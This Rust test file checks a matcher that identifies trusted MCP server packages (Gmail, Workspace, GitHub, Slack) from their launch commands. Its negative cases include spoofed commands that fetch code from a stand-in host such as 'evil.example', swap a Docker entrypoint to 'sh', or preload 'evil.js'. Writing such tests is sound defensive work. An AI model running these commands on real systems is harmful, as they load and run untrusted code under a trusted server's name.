use super::*;

fn server(command: &[&str], reported: &str) -> ServerIdentity {
    ServerIdentity {
        name: "mail".into(),
        reported_name: reported.into(),
        reported_version: "1".into(),
        command: command.iter().map(|word| (*word).to_owned()).collect(),
    }
}

fn gmail() -> ServerMatch {
    ServerMatch {
        reported_name: Names::One("gmail".into()),
        packages: [
            "@gongrzhe/server-gmail-autoauth-mcp",
            "workspace-mcp",
            "ghcr.io/github/github-mcp-server",
            "mcp/slack",
        ]
        .map(Into::into)
        .into(),
        commands: vec!["gmail-mcp".into()],
    }
}

#[test]
fn the_users_command_is_a_full_match() {
    for command in [
        "npx -y @gongrzhe/server-gmail-autoauth-mcp",
        "npx --yes @gongrzhe/server-gmail-autoauth-mcp@1.1.11 --flag x",
        "npx --yes --package=@gongrzhe/server-gmail-autoauth-mcp@latest gmail-mcp",
        "npx -p @gongrzhe/server-gmail-autoauth-mcp gmail-mcp",
        "npm exec -y -- @gongrzhe/server-gmail-autoauth-mcp",
        "pnpm dlx @gongrzhe/server-gmail-autoauth-mcp",
        "bunx @gongrzhe/server-gmail-autoauth-mcp",
        "cmd /c npx -y @gongrzhe/server-gmail-autoauth-mcp",
        "/usr/bin/env TOKEN=a-b npx -y @gongrzhe/server-gmail-autoauth-mcp",
        "C:\\nodejs\\npx.cmd -y @gongrzhe/server-gmail-autoauth-mcp",
        "node /opt/x/node_modules/@gongrzhe/server-gmail-autoauth-mcp/dist/index.js",
        "uvx workspace-mcp --tools drive",
        "uvx workspace_mcp==1.2",
        "uv tool run --from workspace-mcp[all]@1.0 whatever",
        "pipx run Workspace.MCP",
        "docker run -i --rm -e TOKEN ghcr.io/github/github-mcp-server",
        "docker run -i --rm -e TOKEN=x --name y ghcr.io/github/github-mcp-server:v1@sha256:00 stdio",
        "podman run --rm -i mcp/slack:latest",
        "/home/me/bin/gmail-mcp --stdio",
        "C:\\bin\\gmail-mcp.EXE",
    ] {
        let words: Vec<&str> = command.split(' ').collect();
        assert_eq!(gmail().matches(&server(&words, "")), Some(Matched::Command), "{command}");
    }
}

#[test]
fn a_name_elsewhere_in_the_command_is_no_match() {
    for command in [
        "npx -y evil @gongrzhe/server-gmail-autoauth-mcp",
        "npx -y evil --like @gongrzhe/server-gmail-autoauth-mcp",
        "npx -y @gongrzhe/server-gmail-autoauth-mcp@npm:evil",
        "npx -y @gongrzhe/server-gmail-autoauth-mcp@https://evil.example/x.tgz",
        "npx -y @gongrzhe/server-gmail-autoauth-mcp-evil",
        "npx -y -c @gongrzhe/server-gmail-autoauth-mcp",
        "npx -p evil @gongrzhe/server-gmail-autoauth-mcp",
        "uvx --from git+https://evil.example/workspace-mcp workspace-mcp",
        "uvx --from ./workspace-mcp workspace-mcp",
        "uvx --with workspace-mcp evil",
        "docker run -i --entrypoint sh mcp/slack",
        "docker run -i evil mcp/slack",
        "docker run -i -e mcp/slack evil",
        "docker exec -i mcp/slack",
        "docker run -i evil.example:5000/mcp/slack",
        "sh -c gmail-mcp",
        "python -m gmail-mcp",
        "node /opt/node_modules/@gongrzhe/server-gmail-autoauth-mcp/../../evil.js",
        "node -r /opt/node_modules/@gongrzhe/server-gmail-autoauth-mcp/index.js evil.js",
        "node /opt/evil.js /node_modules/@gongrzhe/server-gmail-autoauth-mcp/index.js",
        "gmail-mcp.sh",
        "env env env env env npx workspace-mcp",
        "env",
        "docker run -dit evil mcp/slack",
        "docker run --entrypoint=sh mcp/slack",
        "npx --unknown evil @gongrzhe/server-gmail-autoauth-mcp",
        "uvx -p workspace-mcp evil",
        "npx",
        "",
    ] {
        let words: Vec<&str> = command.split(' ').collect();
        assert_eq!(gmail().matches(&server(&words, "other")), None, "{command}");
    }
    assert_eq!(gmail().matches(&server(&[], "")), None);
}

#[test]
fn a_servers_own_word_is_a_match_that_cannot_loosen() {
    let matched = gmail().matches(&server(&["evil"], "gmail"));
    assert_eq!(matched, Some(Matched::ReportedName));
    assert!(!matched.unwrap().may_loosen());
    for near in ["Gmail", "gmail ", "gmai", "gmail\u{200b}"] {
        assert_eq!(gmail().matches(&server(&["evil"], near)), None, "{near:?}");
    }
}

#[test]
fn an_entry_that_matches_nothing_or_everything_is_not_usable() {
    assert!(!ServerMatch::default().is_usable());
    assert!(!ServerMatch { reported_name: Names::One(" ".into()), ..ServerMatch::default() }.is_usable());
    assert!(gmail().is_usable());
    // An empty name must not match a server that gave none.
    let empty = ServerMatch { reported_name: Names::One(String::new()), ..ServerMatch::default() };
    assert_eq!(empty.matches(&server(&[], "")), None);
}
